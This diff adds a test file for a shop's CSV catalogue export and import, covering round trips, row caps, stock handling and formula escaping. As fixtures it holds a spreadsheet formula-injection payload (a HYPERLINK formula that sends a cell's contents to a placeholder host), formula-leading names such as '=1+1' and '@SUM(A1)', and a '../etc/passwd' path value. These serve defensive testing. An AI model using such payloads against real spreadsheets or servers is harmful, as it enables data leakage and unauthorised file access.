@@ -1,0 +1,199 @@
+/**
+ * The back office's export read back by the importer: every field but stock comes back as it
+ * was (export → import → export gives the same file, on the same shop and on a fresh one), hostile
+ * names never reach a spreadsheet as formulas and return unchanged, and stock changes only when
+ * the import opts in. Also the reader alone: the apostrophe rule, the row cap, the stock column.
+ */
+import { parse } from 'csv-parse/sync';
+import { sql } from 'drizzle-orm';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { DEFAULT_IMPORT_STOCK, importCatalogCsv } from '#features/catalog/server/import.ts';
+import { ImportFileError, readRows } from '#features/catalog/server/import-csv.ts';
+import { EXPORT_COLUMNS, exportProductsCsv } from '#features/catalog/server/product-export.ts';
+import type { Database, DatabaseHandle } from '#lib/db/index.ts';
+import { categories, products, subcategories } from '#lib/db/schema.ts';
+import { createTestDatabase, testDatabaseKinds } from '../helpers/database.ts';
+
+const HEADER = 'index,product,category,sub_category,brand,sale_price,market_price,type,rating';
+const HYPERLINK = '-1+HYPERLINK("http://x?d="&A2,"x")';
+
+type Row = Record<string, unknown>;
+const rows = async (db: Database, query: ReturnType<typeof sql>) =>
+  ((await db.execute(query)) as unknown as { rows: Row[] }).rows;
+const stockOf = async (db: Database, sku: string) =>
+  (await rows(db, sql`SELECT stock FROM products WHERE sku = ${sku}`))[0]?.stock;
+/** The export's cells as a spreadsheet's CSV reader sees them, by column, for one SKU. */
+const exportedRow = (csv: string, sku: string) =>
+  (parse(csv, { columns: true }) as Record<string, string>[]).find((r) => r.sku === sku);
+
+describe('readRows', () => {
+  it("takes off the export's apostrophe before a formula character, and no other", async () => {
+    const file = `${HEADER}\n1,'=x,Veg,Daily,'@brand,10,12,'+91 type,\n2,'Bhindi,Veg,Daily,,10,12,,\n3,"'-1+HYPERLINK(""http://x"",""x"")",Veg,Daily,,10,12,,\n`;
+    const { rows: read, skipped } = await readRows(file);
+    expect(skipped).toEqual([]);
+    expect(read.map((r) => [r.name, r.brand, r.type])).toEqual([
+      ['=x', '@brand', '+91 type'],
+      ["'Bhindi", null, null],
+      ['-1+HYPERLINK("http://x","x")', null, null],
+    ]);
+  });
+
+  it('refuses a file with more data rows than the cap, and takes one at the cap', async () => {
+    const lines = (n: number) =>
+      `${HEADER}\n${Array.from({ length: n }, (_, i) => `${i + 1},Item ${i + 1},Veg,Daily,,10,12,,`).join('\n')}\n`;
+    expect((await readRows(lines(30), { maxRows: 30 })).rows).toHaveLength(30);
+    const error = await readRows(lines(31), { maxRows: 30 }).catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(ImportFileError);
+    expect(error).toMatchObject({ kind: 'too_many_rows', message: expect.stringContaining('more than 30 rows') });
+  });
+
+  it('reads the stock column only when asked to', async () => {
+    const file = `sku,stock,${HEADER}\nA-1,5,,Apple,Fruit,Daily,,10,12,,\n`;
+    expect((await readRows(file)).rows[0]).not.toHaveProperty('stock');
+    expect((await readRows(file)).columns).not.toContain('stock');
+    expect((await readRows(file, { updateStock: true })).rows[0]).toMatchObject({ stock: 5 });
+  });
+
+  it('refuses bad optional cells by line and column', async () => {
+    const file = `sku,tax_percent,hsn_code,is_active,images,${HEADER}
+A-1,55,,,,,Apple,Fruit,Daily,,10,12,,
+A-2,5,12,,,,Pear,Fruit,Daily,,10,12,,
+A-3,5,0808,maybe,,,Plum,Fruit,Daily,,10,12,,
+A-4,5,0808,true,../etc/passwd,,Fig,Fruit,Daily,,10,12,,
+A-5,5,0808,true,a.webp b.webp,,Kiwi,Fruit,Daily,,10,12,,
+`;
+    const { rows: read, skipped } = await readRows(file);
+    expect(skipped.map((s) => [s.line, s.column])).toEqual([
+      [2, 'tax_percent'],
+      [3, 'hsn_code'],
+      [4, 'is_active'],
+      [5, 'images'],
+    ]);
+    expect(read).toEqual([expect.objectContaining({ sku: 'A-5', images: ['a.webp', 'b.webp'], hsn_code: '0808' })]);
+  });
+});
+
+describe.each(testDatabaseKinds())('export and import round trip on %s', (kind) => {
+  let shop: DatabaseHandle;
+  let fresh: DatabaseHandle;
+  let exported: string;
+
+  beforeAll(async () => {
+    shop = await createTestDatabase(kind);
+    fresh = await createTestDatabase(kind);
+    const [cat] = await shop.db.insert(categories).values({ name: 'Vegetables', slug: 'vegetables' }).returning();
+    const [sub] = await shop.db
+      .insert(subcategories)
+      .values({ categoryId: cat!.id, name: 'Daily veg', slug: 'daily-veg' })
+      .returning();
+    const base = { categoryId: cat!.id, subcategoryId: sub!.id, mrpPaise: 5000, pricePaise: 4000 };
+    await shop.db.insert(products).values([
+      {
+        ...base,
+        sku: 'VEG-1',
+        name: 'Bhindi, "Lady\'s finger" 250 g',
+        slug: 'bhindi-fresh',
+        brand: 'Fresho',
+        type: 'Okra',
+        rating: 4.3,
+        weight: 250,
+        weightUnit: 'g',
+        taxPercent: 5,
+        hsnCode: '0709',
+        description: 'Tender pods.\nPicked at dawn, "washed", packed.',
+        additionalInformation: 'Keep cool; use within 3 days.',
+        highlights: ['Farm fresh', 'No pesticides, tested'],
+        images: ['emoji/1f345.svg', 'https://cdn.example.com/okra.webp?w=600'],
+        stock: 37,
+      },
+      { ...base, sku: 'VEG-2', name: HYPERLINK, slug: 'hyperlink', stock: 3, isActive: false },
+      { ...base, sku: 'VEG-3', name: '=1+1', slug: 'one-plus-one', brand: '@SUM(A1)', type: '+91 94470 00000' },
+      { ...base, sku: 'VEG-4', name: "'Bhindi", slug: 'bhindi', archivedAt: new Date(), taxPercent: 12 },
+      { ...base, sku: 'VEG-5', name: '-5 °C Frozen Peas', slug: 'frozen-peas', hsnCode: '07099990', stock: 0 },
+    ]);
+    exported = await exportProductsCsv(shop.db);
+  });
+  afterAll(async () => {
+    await shop?.close();
+    await fresh?.close();
+  });
+
+  it('writes every column, hostile names with a leading apostrophe and numbers as numbers', () => {
+    expect(exported.split('\r\n')[0]).toBe(EXPORT_COLUMNS.join(','));
+    expect(exportedRow(exported, 'VEG-1')).toMatchObject({
+      product: 'Bhindi, "Lady\'s finger" 250 g',
+      slug: 'bhindi-fresh',
+      is_active: 'true',
+      archived: 'false',
+      tax_percent: '5',
+      hsn_code: '0709',
+      rating: '4.3',
+      weight: '250',
+      description: 'Tender pods.\nPicked at dawn, "washed", packed.',
+      highlights: 'Farm fresh\nNo pesticides, tested',
+      images: 'emoji/1f345.svg\nhttps://cdn.example.com/okra.webp?w=600',
+      stock: '37',
+    });
+    expect(exportedRow(exported, 'VEG-2')).toMatchObject({ product: `'${HYPERLINK}`, is_active: 'false' });
+    expect(exportedRow(exported, 'VEG-3')).toMatchObject({
+      product: "'=1+1",
+      brand: "'@SUM(A1)",
+      type: "'+91 94470 00000",
+    });
+    expect(exportedRow(exported, 'VEG-4')).toMatchObject({ product: "'Bhindi", archived: 'true' });
+  });
+
+  it('imports its own export as unchanged, and exports the same file again', async () => {
+    const result = await importCatalogCsv(shop.db, exported);
+    expect(result).toMatchObject({ inserted: 0, updated: 0, unchanged: 5, skipped: [] });
+    expect(await exportProductsCsv(shop.db)).toBe(exported);
+  });
+
+  it('builds the same catalogue in a fresh shop: the same file back, stock only when asked', async () => {
+    const first = await importCatalogCsv(fresh.db, exported);
+    expect(first).toMatchObject({ inserted: 5, skipped: [] });
+    const withoutStock = await exportProductsCsv(fresh.db);
+    // Every column but stock is the shop's; new products got the default stock.
+    const strip = (csv: string) =>
+      (parse(csv, { columns: true }) as Record<string, string>[]).map(({ stock, ...rest }) => rest);
+    expect(strip(withoutStock)).toEqual(strip(exported));
+    expect(await stockOf(fresh.db, 'VEG-1')).toBe(DEFAULT_IMPORT_STOCK);
+
+    const again = await importCatalogCsv(fresh.db, exported, { updateStock: true });
+    expect(again).toMatchObject({ inserted: 0, updated: 5, unchanged: 0 });
+    expect(await exportProductsCsv(fresh.db)).toBe(exported);
+  });
+
+  it('never changes stock from the file without the opt-in; with it, records the movement', async () => {
+    const edited = exported.replace(/,37\r\n/, ',999\r\n');
+    expect(edited).not.toBe(exported);
+    expect(await importCatalogCsv(shop.db, edited)).toMatchObject({ updated: 0, unchanged: 5 });
+    expect(await stockOf(shop.db, 'VEG-1')).toBe(37);
+
+    expect(await importCatalogCsv(shop.db, edited, { updateStock: true })).toMatchObject({ updated: 1, unchanged: 4 });
+    expect(await stockOf(shop.db, 'VEG-1')).toBe(999);
+    const [movement] = await rows(
+      shop.db,
+      sql`SELECT m.delta, m.reason FROM stock_movements m JOIN products p ON p.id = m.product_id WHERE p.sku = 'VEG-1' ORDER BY m.id DESC LIMIT 1`,
+    );
+    expect(movement).toEqual({ delta: 962, reason: 'import' });
+  });
+
+  it('leaves photos, GST and texts alone when the file lacks their columns, and archives by the column', async () => {
+    const bigBasket = `sku,${HEADER}\nVEG-1,,"Bhindi, ""Lady's finger"" 250 g",Vegetables,Daily veg,Fresho,45.00,50.00,Okra,4.3\n`;
+    expect(await importCatalogCsv(shop.db, bigBasket)).toMatchObject({ updated: 1 });
+    expect(exportedRow(await exportProductsCsv(shop.db), 'VEG-1')).toMatchObject({
+      sale_price: '45.00',
+      tax_percent: '5',
+      hsn_code: '0709',
+      images: 'emoji/1f345.svg\nhttps://cdn.example.com/okra.webp?w=600',
+      highlights: 'Farm fresh\nNo pesticides, tested',
+      slug: 'bhindi-lady-s-finger-250-g',
+    });
+    const archive = `sku,archived,is_active,${HEADER}\nVEG-1,true,,,Okra 250 g,Vegetables,Daily veg,,45.00,50.00,,\n`;
+    expect(await importCatalogCsv(shop.db, archive, { batchRows: 1 })).toMatchObject({ updated: 1 });
+    const [row] = await rows(shop.db, sql`SELECT archived_at, is_active FROM products WHERE sku = 'VEG-1'`);
+    expect(row!.archived_at).not.toBeNull();
+    expect(row!.is_active).toBe(true);
+  });
+});
